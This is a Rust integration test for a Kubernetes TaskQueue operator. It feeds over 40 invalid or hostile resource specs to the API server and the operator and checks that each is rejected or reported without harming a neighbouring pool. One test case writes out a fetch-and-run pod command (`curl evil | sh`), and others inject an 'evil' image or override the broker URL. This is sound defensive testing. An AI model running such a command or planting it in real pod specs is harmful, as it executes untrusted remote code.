//! The hostile-input matrix: invalid or hostile TaskQueues, each created as a tenant would
//! (`kubectl create`, which asks for strict field validation), beside a valid neighbour, with the
//! real operator binary watching. Every case must be rejected by the API server's schema (the
//! 1.20 test server; CEL rules and strict validation on the modern server from
//! `../shared/tools` where present) or reported by the operator in a condition whose message
//! names the field. Meanwhile the neighbour keeps scaling and the operator process never
//! restarts. The table is printed and written to docs/reliability.md (between the
//! `hostile-inputs` markers). Marked `#[ignore]`: `make test` runs it.

mod support;

use std::collections::BTreeMap;
use std::process::Stdio;
use std::time::Duration;

use k8s_openapi::api::core::v1::Secret;
use kube::api::PostParams;
use kube::{Api, Client};
use serde_json::{json, Value};
use support::*;

/// One hostile TaskQueue: a change to the valid base object, and the text a rejection or a
/// report must contain (the field it is about). `valid`: at a limit but fine; must work.
struct Case {
    name: &'static str,
    what: &'static str,
    field: &'static str,
    edit: fn(&mut Value),
    valid: bool,
}

const fn bad(name: &'static str, what: &'static str, field: &'static str, edit: fn(&mut Value)) -> Case {
    Case { name, what, field, edit, valid: false }
}

/// Who must catch a case on the 1.20 API server, where every case is checked.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Expect {
    /// The CRD's schema rejects it, naming the field.
    Schema,
    /// It is stored and the operator reports it in this condition (False), naming the field.
    Operator(&'static str),
    /// Only the modern API server catches it (CEL or strict field validation): on 1.20 it is
    /// stored and works.
    ModernOnly,
    /// Valid at a limit: stored and working everywhere.
    Valid,
}

/// Each case's catcher, by name (a case missing here fails the test).
fn expected(name: &str) -> Option<Expect> {
    Some(match name {
        "type-concurrency"
        | "type-max-replicas"
        | "type-routes"
        | "type-extra-queues"
        | "type-count-in-flight"
        | "type-pod-template"
        | "negative-min"
        | "negative-concurrency"
        | "zero-concurrency"
        | "huge-max"
        | "over-int64"
        | "negative-grace"
        | "negative-activation"
        | "zero-tasks-per-replica"
        | "zero-max-step"
        | "zero-prefetch"
        | "duration-unit"
        | "duration-long-text"
        | "queue-empty"
        | "queue-space"
        | "queue-oversized"
        | "queue-control-char"
        | "extra-too-many"
        | "pattern-empty"
        | "pattern-control-char"
        | "pattern-oversized"
        | "routes-257"
        | "steps-out-of-range"
        | "steps-empty"
        | "sep-empty"
        | "node-name-at"
        | "image-empty" => Expect::Schema,
        "min-above-max"
        | "fallback-outside"
        | "huge-duration"
        | "poll-too-fast"
        | "window-over-24h"
        | "extra-repeats-queue"
        | "extra-duplicates"
        | "route-foreign-queue"
        | "image-whitespace"
        | "app-whitespace"
        | "env-broker-url"
        | "env-bad-name"
        | "quantity-not-a-quantity"
        | "quantity-request-over-limit"
        | "quantity-unknown-resource"
        | "template-image"
        | "template-command"
        | "template-selector-label"
        | "template-unknown-field"
        | "name-64"
        | "name-253" => Expect::Operator("SpecValid"),
        "route-claimed-by-neighbour" => Expect::Operator("RoutesAccepted"),
        "template-server-refuses" => Expect::Operator("Ready"),
        "secret-missing" | "secret-missing-key" | "secret-not-a-url" | "secret-amqp" | "secret-binary"
        | "sentinel-no-master" | "ca-without-tls" => Expect::Operator("BrokerReachable"),
        "unknown-field" => Expect::ModernOnly,
        "routes-256" | "name-63" => Expect::Valid,
        _ => return None,
    })
}

/// Whether the modern API server rejects the case (its CRD carries CEL rules; `kubectl create`
/// asks for strict field validation).
fn modern_rejects(name: &str) -> bool {
    !matches!(
        name,
        "route-claimed-by-neighbour"
            | "routes-256"
            | "image-whitespace"
            | "app-whitespace"
            | "env-broker-url"
            | "env-bad-name"
            | "quantity-not-a-quantity"
            | "quantity-request-over-limit"
            | "quantity-unknown-resource"
            | "template-image"
            | "template-command"
            | "template-selector-label"
            | "template-server-refuses"
            | "template-unknown-field"
            | "name-63"
            | "secret-missing"
            | "secret-missing-key"
            | "secret-not-a-url"
            | "secret-amqp"
            | "secret-binary"
            | "sentinel-no-master"
            | "ca-without-tls"
    )
}

fn cases() -> Vec<Case> {
    vec![
        bad("type-concurrency", "`worker.concurrency: \"four\"`", "spec.worker.concurrency", |o| {
            o["spec"]["worker"]["concurrency"] = json!("four")
        }),
        bad("type-max-replicas", "`scaling.maxReplicas: \"10\"`", "spec.scaling.maxReplicas", |o| {
            o["spec"]["scaling"]["maxReplicas"] = json!("10")
        }),
        bad("type-routes", "`routes: \"app.*\"` (not a list)", "spec.routes", |o| o["spec"]["routes"] = json!("app.*")),
        bad("type-extra-queues", "`extraQueues: \"a,b\"`", "spec.extraQueues", |o| {
            o["spec"]["extraQueues"] = json!("a,b")
        }),
        bad("type-count-in-flight", "`countInFlight: \"yes\"`", "spec.scaling.countInFlight", |o| {
            o["spec"]["scaling"]["countInFlight"] = json!("yes")
        }),
        bad("type-pod-template", "`podTemplate: \"x\"`", "spec.worker.podTemplate", |o| {
            o["spec"]["worker"]["podTemplate"] = json!("x")
        }),
        bad("negative-min", "`minReplicas: -1`", "spec.scaling.minReplicas", |o| {
            o["spec"]["scaling"]["minReplicas"] = json!(-1)
        }),
        bad("negative-concurrency", "`concurrency: -4`", "spec.worker.concurrency", |o| {
            o["spec"]["worker"]["concurrency"] = json!(-4)
        }),
        bad("zero-concurrency", "`concurrency: 0`", "spec.worker.concurrency", |o| {
            o["spec"]["worker"]["concurrency"] = json!(0)
        }),
        bad("huge-max", "`maxReplicas: 2147483647`", "spec.scaling.maxReplicas", |o| {
            o["spec"]["scaling"]["maxReplicas"] = json!(2147483647)
        }),
        bad("over-int64", "`maxReplicas: 1e30`", "spec.scaling.maxReplicas", |o| {
            o["spec"]["scaling"]["maxReplicas"] = json!(1e30)
        }),
        bad(
            "negative-grace",
            "`terminationGracePeriodSeconds: -1`",
            "spec.worker.terminationGracePeriodSeconds",
            |o| o["spec"]["worker"]["terminationGracePeriodSeconds"] = json!(-1),
        ),
        bad("negative-activation", "`activationThreshold: -1`", "spec.scaling.activationThreshold", |o| {
            o["spec"]["scaling"]["activationThreshold"] = json!(-1)
        }),
        bad("zero-tasks-per-replica", "`tasksPerReplica: 0`", "spec.scaling.tasksPerReplica", |o| {
            o["spec"]["scaling"]["tasksPerReplica"] = json!(0)
        }),
        bad("zero-max-step", "`scaleUp.maxStep: 0`", "spec.scaling.scaleUp.maxStep", |o| {
            o["spec"]["scaling"]["scaleUp"] = json!({"maxStep": 0})
        }),
        bad("zero-prefetch", "`prefetchMultiplier: 0`", "spec.worker.prefetchMultiplier", |o| {
            o["spec"]["worker"]["prefetchMultiplier"] = json!(0)
        }),
        bad("min-above-max", "`minReplicas: 5, maxReplicas: 2`", "spec.scaling.minReplicas", |o| {
            o["spec"]["scaling"] = json!({"minReplicas": 5, "maxReplicas": 2})
        }),
        bad("fallback-outside", "`fallbackReplicas: 9` with `maxReplicas: 3`", "spec.scaling.fallbackReplicas", |o| {
            o["spec"]["scaling"]["fallbackReplicas"] = json!(9)
        }),
        bad(
            "huge-duration",
            "`pollInterval: \"99999999999999999999999h\"` (panicked before)",
            "spec.scaling.pollInterval",
            |o| o["spec"]["scaling"]["pollInterval"] = json!("99999999999999999999999h"),
        ),
        bad("poll-too-fast", "`pollInterval: \"1ms\"`", "spec.scaling.pollInterval", |o| {
            o["spec"]["scaling"]["pollInterval"] = json!("1ms")
        }),
        bad("window-over-24h", "`stabilizationWindow: \"48h\"`", "spec.scaling.scaleDown.stabilizationWindow", |o| {
            o["spec"]["scaling"]["scaleDown"] = json!({"stabilizationWindow": "48h"})
        }),
        bad("duration-unit", "`pollInterval: \"5d\"`", "spec.scaling.pollInterval", |o| {
            o["spec"]["scaling"]["pollInterval"] = json!("5d")
        }),
        bad("duration-long-text", "`fallbackAfter`: 40 characters", "spec.scaling.fallbackAfter", |o| {
            o["spec"]["scaling"]["fallbackAfter"] = json!("1s".repeat(20))
        }),
        bad("queue-empty", "`queue: \"\"`", "spec.queue", |o| o["spec"]["queue"] = json!("")),
        bad("queue-space", "`queue: \"a b\"`", "spec.queue", |o| o["spec"]["queue"] = json!("a b")),
        bad("queue-oversized", "`queue`: 201 characters", "spec.queue", |o| {
            o["spec"]["queue"] = json!("q".repeat(201))
        }),
        bad("queue-control-char", "`queue: \"q\\u0007\"`", "spec.queue", |o| o["spec"]["queue"] = json!("q\u{7}")),
        bad("extra-repeats-queue", "`extraQueues` repeats `queue`", "spec.extraQueues", |o| {
            o["spec"]["extraQueues"] = json!([o["spec"]["queue"].clone()])
        }),
        bad("extra-duplicates", "`extraQueues: [x, x]`", "spec.extraQueues", |o| {
            o["spec"]["extraQueues"] = json!(["x", "x"])
        }),
        bad("extra-too-many", "`extraQueues`: 33 entries", "spec.extraQueues", |o| {
            o["spec"]["extraQueues"] = json!((0..33).map(|i| format!("x{i}")).collect::<Vec<_>>())
        }),
        bad("pattern-empty", "`routes[0].pattern: \"\"`", "spec.routes[0].pattern", |o| {
            o["spec"]["routes"] = json!([{"pattern": ""}])
        }),
        bad("pattern-control-char", "`routes[0].pattern: \"app.\\u0007*\"`", "spec.routes[0].pattern", |o| {
            o["spec"]["routes"] = json!([{"pattern": "app.\u{7}*"}])
        }),
        bad("pattern-oversized", "`routes[0].pattern`: 300 characters", "spec.routes[0].pattern", |o| {
            o["spec"]["routes"] = json!([{"pattern": "a".repeat(300)}])
        }),
        bad(
            "route-claimed-by-neighbour",
            "`routes[0].pattern` already routed by the neighbour",
            "app.neighbour.*",
            |o| o["spec"]["routes"] = json!([{"pattern": "app.neighbour.*"}]),
        ),
        bad("route-foreign-queue", "`routes[0].queue` not consumed by the pool", "spec.routes[0].queue", |o| {
            o["spec"]["routes"] = json!([{"pattern": "app.*", "queue": "elsewhere"}])
        }),
        bad("routes-257", "257 routes (the most is 256)", "spec.routes", |o| {
            o["spec"]["routes"] = json!((0..257).map(|i| json!({"pattern": format!("app.t{i}")})).collect::<Vec<_>>())
        }),
        Case {
            name: "routes-256",
            what: "256 routes (at the limit)",
            field: "",
            edit: |o| {
                o["spec"]["routes"] =
                    json!((0..256).map(|i| json!({"pattern": format!("app.routes256.t{i}")})).collect::<Vec<_>>())
            },
            valid: true,
        },
        bad("steps-out-of-range", "`prioritySteps: [0, 12]`", "spec.broker.transportOptions.prioritySteps", |o| {
            o["spec"]["broker"]["transportOptions"] = json!({"prioritySteps": [0, 12]})
        }),
        bad("steps-empty", "`prioritySteps: []`", "spec.broker.transportOptions.prioritySteps", |o| {
            o["spec"]["broker"]["transportOptions"] = json!({"prioritySteps": []})
        }),
        bad("sep-empty", "`sep: \"\"`", "spec.broker.transportOptions.sep", |o| {
            o["spec"]["broker"]["transportOptions"] = json!({"sep": ""})
        }),
        bad("node-name-at", "`nodeName: \"a@b\"`", "spec.worker.nodeName", |o| {
            o["spec"]["worker"]["nodeName"] = json!("a@b")
        }),
        bad("image-empty", "`image: \"\"`", "spec.worker.image", |o| o["spec"]["worker"]["image"] = json!("")),
        bad("image-whitespace", "`image: \"app 1\"`", "spec.worker.image", |o| {
            o["spec"]["worker"]["image"] = json!("app 1")
        }),
        bad("app-whitespace", "`app: \"app worker\"`", "spec.worker.app", |o| {
            o["spec"]["worker"]["app"] = json!("app worker")
        }),
        bad("env-broker-url", "`env` sets CELERY_BROKER_URL", "spec.worker.env[0].name", |o| {
            o["spec"]["worker"]["env"] = json!([{"name": "CELERY_BROKER_URL", "value": "redis://elsewhere"}])
        }),
        bad("env-bad-name", "`env[0].name: \"1BAD\"`", "spec.worker.env[0].name", |o| {
            o["spec"]["worker"]["env"] = json!([{"name": "1BAD", "value": "x"}])
        }),
        bad("quantity-not-a-quantity", "`requests.cpu: \"lots\"`", "spec.worker.resources.requests[\"cpu\"]", |o| {
            o["spec"]["worker"]["resources"] = json!({"requests": {"cpu": "lots"}})
        }),
        bad(
            "quantity-request-over-limit",
            "`requests.memory: 2Gi`, `limits.memory: 1Gi`",
            "spec.worker.resources.requests[\"memory\"]",
            |o| o["spec"]["worker"]["resources"] = json!({"requests": {"memory": "2Gi"}, "limits": {"memory": "1Gi"}}),
        ),
        bad("quantity-unknown-resource", "`requests.gpu: 1`", "spec.worker.resources.requests[\"gpu\"]", |o| {
            o["spec"]["worker"]["resources"] = json!({"requests": {"gpu": 1}})
        }),
        bad(
            "template-image",
            "`podTemplate` sets the worker image",
            "spec.worker.podTemplate.spec.containers[0].image",
            |o| {
                o["spec"]["worker"]["podTemplate"] =
                    json!({"spec": {"containers": [{"name": "worker", "image": "evil:1"}]}})
            },
        ),
        bad(
            "template-command",
            "`podTemplate` sets the worker command",
            "spec.worker.podTemplate.spec.containers[0].command",
            |o| {
                o["spec"]["worker"]["podTemplate"] =
                    json!({"spec": {"containers": [{"name": "worker", "command": ["sh", "-c", "curl evil | sh"]}]}})
            },
        ),
        bad(
            "template-selector-label",
            "`podTemplate` sets `app.kubernetes.io/instance`",
            "app.kubernetes.io/instance",
            |o| {
                o["spec"]["worker"]["podTemplate"] =
                    json!({"metadata": {"labels": {"app.kubernetes.io/instance": "other"}}})
            },
        ),
        bad("template-server-refuses", "`podTemplate` volume named `Not_A_Label`", "Not_A_Label", |o| {
            o["spec"]["worker"]["podTemplate"] = json!({"spec": {"volumes": [{"name": "Not_A_Label", "emptyDir": {}}]}})
        }),
        bad(
            "template-unknown-field",
            "`podTemplate.spec.nodeSelecter` (typo)",
            "spec.worker.podTemplate.spec.nodeSelecter",
            |o| o["spec"]["worker"]["podTemplate"] = json!({"spec": {"nodeSelecter": {"pool": "gpu"}}}),
        ),
        bad("unknown-field", "`scaling.maxReplica: 3` (typo)", "maxReplica", |o| {
            o["spec"]["scaling"]["maxReplica"] = json!(3)
        }),
        bad("name-64", "`metadata.name`: 64 characters", "metadata.name", |o| {
            o["metadata"]["name"] = json!(format!("n{}", "a".repeat(63)))
        }),
        bad("name-253", "`metadata.name`: 253 characters", "metadata.name", |o| {
            o["metadata"]["name"] = json!(format!("n{}", "a".repeat(252)))
        }),
        Case {
            name: "name-63",
            what: "`metadata.name`: 63 characters (at the limit)",
            field: "",
            edit: |o| o["metadata"]["name"] = json!(format!("n{}", "a".repeat(62))),
            valid: true,
        },
        bad("secret-missing", "`urlSecretRef` names no Secret", "spec.broker.urlSecretRef", |o| {
            o["spec"]["broker"]["urlSecretRef"] = json!({"name": "nope"})
        }),
        bad("secret-missing-key", "`urlSecretRef.key` not in the Secret", "spec.broker.urlSecretRef", |o| {
            o["spec"]["broker"]["urlSecretRef"] = json!({"name": "celery-broker", "key": "nokey"})
        }),
        bad("secret-not-a-url", "Secret holds `not a url`", "spec.broker.urlSecretRef", |o| {
            o["spec"]["broker"]["urlSecretRef"] = json!({"name": "not-a-url"})
        }),
        bad("secret-amqp", "Secret holds `amqp://guest@rabbit//`", "spec.broker.urlSecretRef", |o| {
            o["spec"]["broker"]["urlSecretRef"] = json!({"name": "amqp"})
        }),
        bad("secret-binary", "Secret holds bytes that are not UTF-8", "spec.broker.urlSecretRef", |o| {
            o["spec"]["broker"]["urlSecretRef"] = json!({"name": "binary"})
        }),
        bad(
            "sentinel-no-master",
            "`sentinel://` URL without `masterName`",
            "spec.broker.transportOptions.masterName",
            |o| o["spec"]["broker"]["urlSecretRef"] = json!({"name": "sentinel"}),
        ),
        bad("ca-without-tls", "`caSecretRef` with a `redis://` URL", "spec.broker.caSecretRef", |o| {
            o["spec"]["broker"]["caSecretRef"] = json!({"name": "ca"})
        }),
    ]
}

/// The valid base every case changes one thing of.
fn base(name: &str) -> Value {
    json!({
        "apiVersion": "taskqueue.dev/v1alpha1", "kind": "TaskQueue",
        "metadata": {"name": name},
        "spec": {
            "queue": format!("q-{name}"),
            "broker": {"urlSecretRef": {"name": "celery-broker", "key": "url"}},
            "worker": {"image": "example/celery-app:1.0", "app": "app.worker", "concurrency": 2},
            "scaling": {"minReplicas": 0, "maxReplicas": 3, "pollInterval": "500ms"}
        }
    })
}

/// What one API server did with a create: Ok, or the refusal's message.
async fn create(client: &Client, ns: &str, obj: &Value) -> Result<(), String> {
    // `?fieldValidation=Strict`, as kubectl sends it (1.20 ignores it and prunes unknown fields).
    let url = format!("/apis/taskqueue.dev/v1alpha1/namespaces/{ns}/taskqueues?fieldValidation=Strict");
    let req = http::Request::post(url)
        .header("content-type", "application/json")
        .body(serde_json::to_vec(obj).unwrap())
        .unwrap();
    match client.request::<Value>(req).await {
        Ok(_) => Ok(()),
        Err(kube::Error::Api(s)) => Err(s.message.clone()),
        Err(e) => panic!("creating a TaskQueue: {e}"),
    }
}

async fn secret(client: &Client, ns: &str, name: &str, key: &str, data: &[u8]) {
    use base64::Engine;
    let s: Secret = serde_json::from_value(json!({
        "metadata": {"name": name},
        "data": {key: base64::engine::general_purpose::STANDARD.encode(data)}
    }))
    .unwrap();
    Api::<Secret>::namespaced(client.clone(), ns).create(&PostParams::default(), &s).await.unwrap();
}

/// The operator's verdict on an accepted case: the first condition that is False and whose
/// message names `field`, as "Type/Reason: message".
/// A field path without list indexes: 1.20 writes list fields without them
/// (`spec.routes.pattern` for `spec.routes[0].pattern`), CEL messages with `[]`.
fn unindexed(t: &str) -> String {
    let mut out = String::new();
    let mut rest = t;
    while let Some(open) = rest.find('[') {
        out.push_str(&rest[..open]);
        let after = &rest[open + 1..];
        let digits = after.len() - after.trim_start_matches(|c: char| c.is_ascii_digit()).len();
        if after[digits..].starts_with(']') {
            rest = &after[digits + 1..]; // `[0]` (or CEL's `[]`): dropped
        } else {
            out.push('[');
            rest = after;
        }
    }
    out.push_str(rest);
    out
}

#[test]
fn list_indexes_are_dropped_and_other_brackets_kept() {
    assert_eq!(unindexed("[spec.routes[0].pattern: Too long, x[12]]"), "[spec.routes.pattern: Too long, x]");
    assert_eq!(unindexed("spec.routes[].queue must be"), "spec.routes.queue must be");
    assert_eq!(unindexed("requests[\"cpu\"] [a]"), "requests[\"cpu\"] [a]");
}

fn reported(tq: &taskqueue_operator::crd::TaskQueue, field: &str) -> Option<String> {
    let conds = &tq.status.as_ref()?.conditions;
    conds
        .iter()
        .find(|c| c.status == "False" && c.message.contains(field))
        .map(|c| format!("{}/{}: {}", c.type_, c.reason, c.message))
}

fn short(s: &str) -> String {
    let s = s.replace('|', "\\|").replace('\n', " ");
    let cut: String = s.chars().take(110).collect();
    if cut.len() < s.len() {
        format!("{cut}…")
    } else {
        cut
    }
}

#[tokio::test]
#[ignore = "needs the local stack: make test"]
async fn hostile_taskqueues_are_rejected_or_reported_and_hurt_no_neighbour() {
    let client = client().await;
    ensure_crd(&client).await;
    let ns = namespace(&client, "hostile").await;
    let redis = Redis::start().await;
    broker_secret(&client, &ns, &redis.url()).await;
    secret(&client, &ns, "not-a-url", "url", b"not a url").await;
    secret(&client, &ns, "amqp", "url", b"amqp://guest@rabbit//").await;
    secret(&client, &ns, "binary", "url", &[0xff, 0xfe, 0x00, 0x80]).await;
    secret(&client, &ns, "sentinel", "url", b"sentinel://127.0.0.1:26379").await;
    secret(&client, &ns, "ca", "ca.crt", b"-----BEGIN CERTIFICATE-----\n").await;
    let mut neighbour = pool("neighbour", "neighbour", json!({"pollInterval": "500ms"}));
    neighbour["spec"]["routes"] = json!([{"pattern": "app.neighbour.*"}]);
    create_taskqueue(&client, &ns, neighbour).await;

    let metrics_port = free_port();
    let log = std::env::temp_dir().join(format!("tq-hostile-{metrics_port}.log"));
    let mut operator = ChildGuard(
        std::process::Command::new(env!("CARGO_BIN_EXE_taskqueue-operator"))
            .args(["run", "--namespace", &ns, "--broker-timeout", "1s", "--leader-election=false"])
            .args(["--metrics-addr", &format!("127.0.0.1:{metrics_port}")])
            .stdout(std::fs::File::create(&log).unwrap())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let pid = operator.0.id();

    // Modern API server, where present: the same creates, for CEL rules and strict validation.
    let modern = match support::modern::script() {
        Some(script) => {
            let server = support::modern::ModernApiServer::start(script);
            let mc = server.client().await;
            support::modern::install_crd(&mc).await;
            let nsapi: Api<k8s_openapi::api::core::v1::Namespace> = Api::all(mc.clone());
            nsapi
                .create(
                    &PostParams::default(),
                    &serde_json::from_value(json!({"metadata": {"name": "hostile"}})).unwrap(),
                )
                .await
                .unwrap();
            Some((server, mc))
        }
        None => None,
    };

    let cases = cases();
    assert!(cases.iter().filter(|c| !c.valid).count() >= 40, "the matrix has at least 40 hostile cases");
    let mut on_120 = BTreeMap::new();
    let mut on_modern = BTreeMap::new();
    for c in &cases {
        let mut obj = base(c.name);
        (c.edit)(&mut obj);
        on_120.insert(c.name, create(&client, &ns, &obj).await);
        if let Some((_, mc)) = &modern {
            on_modern.insert(c.name, create(mc, "hostile", &obj).await);
        }
    }

    // The operator's verdicts on what 1.20 stored.
    let names: BTreeMap<&str, String> = cases
        .iter()
        .map(|c| {
            let mut obj = base(c.name);
            (c.edit)(&mut obj);
            (c.name, obj["metadata"]["name"].as_str().unwrap().to_string())
        })
        .collect();
    // Settled: reported, or fully working (valid, Deployment created, broker read) -- the latter
    // for the valid cases and for what 1.20 silently dropped before the operator could see it.
    let unsettled = std::sync::Mutex::new(String::new());
    // wait_for's own deadline is beyond the one below, which says what it saw.
    let settle = wait_for("the operator to settle every stored case", Duration::from_secs(180), || async {
        let mut out = BTreeMap::new();
        for c in cases.iter().filter(|c| on_120[c.name].is_ok()) {
            let t = taskqueue(&client, &ns, &names[c.name]).await;
            let working = condition(&t, "SpecValid").is_some_and(|s| s.0 == "True")
                && condition(&t, "BrokerReachable").is_some_and(|s| s.0 == "True")
                && condition(&t, "RoutesAccepted").is_some_and(|s| s.0 != "Unknown")
                && deployment(&client, &ns, &names[c.name]).await.is_some();
            let verdict = match reported(&t, c.field) {
                Some(r) if !c.valid => Some(r),
                _ if working => None,
                _ => {
                    // Not settled yet: kept, so a timeout says which case and what it shows.
                    let conds = t.status.map(|s| s.conditions).unwrap_or_default();
                    let shown: Vec<String> =
                        conds.iter().map(|c| format!("{}={} {}", c.type_, c.status, c.reason)).collect();
                    let shown = if shown.is_empty() { "no status".to_string() } else { shown.join(", ") };
                    *unsettled.lock().unwrap() = format!("{}: {shown}", c.name);
                    return None;
                }
            };
            out.insert(c.name, verdict);
        }
        Some(out)
    });
    let verdicts: BTreeMap<&str, Option<String>> = match tokio::time::timeout(Duration::from_secs(120), settle).await {
        Ok(v) => v,
        Err(_) => panic!("not settled: {}", unsettled.lock().unwrap()),
    };

    // The neighbour scaled meanwhile, and the operator never restarted.
    lpush(&redis.url(), "neighbour", 6).await;
    wait_replicas(&client, &ns, "neighbour", 2).await;
    assert!(operator.0.try_wait().unwrap().is_none(), "the operator process is still the one started (pid {pid})");
    let logs = std::fs::read_to_string(&log).unwrap();
    let panics = logs.matches("panicked").count();
    assert_eq!(panics, 0, "no reconcile panicked:\n{logs}");

    // Every case caught by exactly the catcher it names, naming its field.
    let mut failures = Vec::new();
    let mut rows = Vec::new();
    let (mut by_schema, mut by_operator, mut by_modern_only, mut valid, mut unchecked) = (0, 0, 0, 0, 0);
    for (i, c) in cases.iter().enumerate() {
        let old = &on_120[c.name];
        let new = on_modern.get(c.name);
        let working = verdicts.get(c.name).is_some_and(Option::is_none);
        let verdict = verdicts.get(c.name).cloned().flatten();
        let cell_api = |r: Option<&Result<(), String>>| match r {
            None => "not checked (no modern API server here)".to_string(),
            Some(Ok(())) => "accepted".to_string(),
            Some(Err(m)) => {
                format!("**rejected**: {}", short(m.split_once(" is invalid: ").map_or(m.as_str(), |x| x.1)))
            }
        };
        let cell_op = match (&verdict, working) {
            (Some(v), _) => format!("**reported** {}", short(&v.replace(&ns, "NS"))),
            (None, true) => "accepted: valid, Deployment created, broker read".to_string(),
            (None, false) => "—".to_string(),
        };
        rows.push(format!(
            "| {} | {} | {} | {} | {} | {} |",
            i + 1,
            c.name,
            c.what,
            cell_api(Some(old)),
            cell_op,
            cell_api(new)
        ));
        let Some(expect) = expected(c.name) else {
            failures.push(format!("{}: no expected catcher (add it to `expected`)", c.name));
            continue;
        };
        if (expect == Expect::Valid) != c.valid {
            failures.push(format!("{}: `valid` and `expected` disagree", c.name));
        }
        let names_field = |m: &str| unindexed(m).contains(&unindexed(c.field));
        let got_120 = match (old, &verdict) {
            (Err(m), _) if names_field(m) => Some(Expect::Schema),
            (Ok(()), Some(r)) => Some(Expect::Operator(r.split('/').next().unwrap_or_default().to_string().leak())),
            (Ok(()), None) if working => Some(if c.valid { Expect::Valid } else { Expect::ModernOnly }),
            _ => None,
        };
        if got_120 != Some(expect) {
            failures.push(format!(
                "{}: expected {expect:?} naming {:?}, got {got_120:?}: 1.20 {old:?}, operator {verdict:?}",
                c.name, c.field
            ));
        }
        match new {
            None if expect == Expect::ModernOnly => unchecked += 1,
            None => {}
            Some(r) if r.is_err() != modern_rejects(c.name) => failures.push(format!(
                "{}: the modern API server was expected to {}: {r:?}",
                c.name,
                if modern_rejects(c.name) { "reject it" } else { "accept it" }
            )),
            Some(Err(m)) if !names_field(m) => {
                failures.push(format!("{}: the modern API server's rejection does not name {:?}: {m}", c.name, c.field))
            }
            Some(_) => {}
        }
        match expect {
            Expect::Schema => by_schema += 1,
            Expect::Operator(_) => by_operator += 1,
            Expect::ModernOnly => by_modern_only += 1,
            Expect::Valid => valid += 1,
        }
    }
    let summary = format!(
        "{} cases ({} hostile, {valid} valid at a limit): {by_schema} rejected by the 1.20 API server's schema, \
         {by_operator} stored and reported by the operator (a condition naming the field), {by_modern_only} caught \
         only by the modern API server (CEL rules or strict field validation), {unchecked} not checked here; the \
         neighbour scaled 0 -> 2 beside them and the operator process never restarted, no panic in its log.",
        cases.len(),
        cases.len() - valid,
    );
    let table = format!(
        "{summary}\n\n| # | case | input | 1.20 API server (schema) | operator | modern API server (CEL, strict) |\n|---|---|---|---|---|---|\n{}\n",
        rows.join("\n")
    );
    println!("{table}");
    if unchecked > 0 {
        support::partly_skipped(
            "hostile_taskqueues_are_rejected_or_reported_and_hurt_no_neighbour",
            &format!("{unchecked} case(s) only the modern API server can catch"),
            "../shared/tools/modern-apiserver.sh not present",
        );
    }
    assert!(failures.is_empty(), "hostile inputs that got through:\n{}", failures.join("\n"));
    // Without the modern API server its column and count cannot be reproduced here: compare the rest.
    let same = |t: &str| if modern.is_some() { t.to_string() } else { without_modern(t) };
    support::docs::checked("docs/reliability.md", "hostile-inputs", &table, same);
    drop(modern);
    delete_namespace(&client, &ns).await;
}

/// The hostile table less what only the modern API server gives: its column, and the count of
/// cases left unchecked without it.
fn without_modern(table: &str) -> String {
    table
        .lines()
        .map(|line| {
            if line.starts_with('|') {
                // `| … | modern |`: drop the last cell.
                let mut cells: Vec<&str> = line.rsplitn(3, '|').collect();
                cells.pop().map_or(String::new(), |rest| format!("{rest}|"))
            } else if let Some(at) = line.find(" not checked here") {
                let head = line[..at].trim_end_matches(|c: char| c.is_ascii_digit());
                format!("{head}N{}", &line[at..])
            } else {
                line.to_string()
            }
        })
        .collect::<Vec<_>>()
        .join("\n")
}
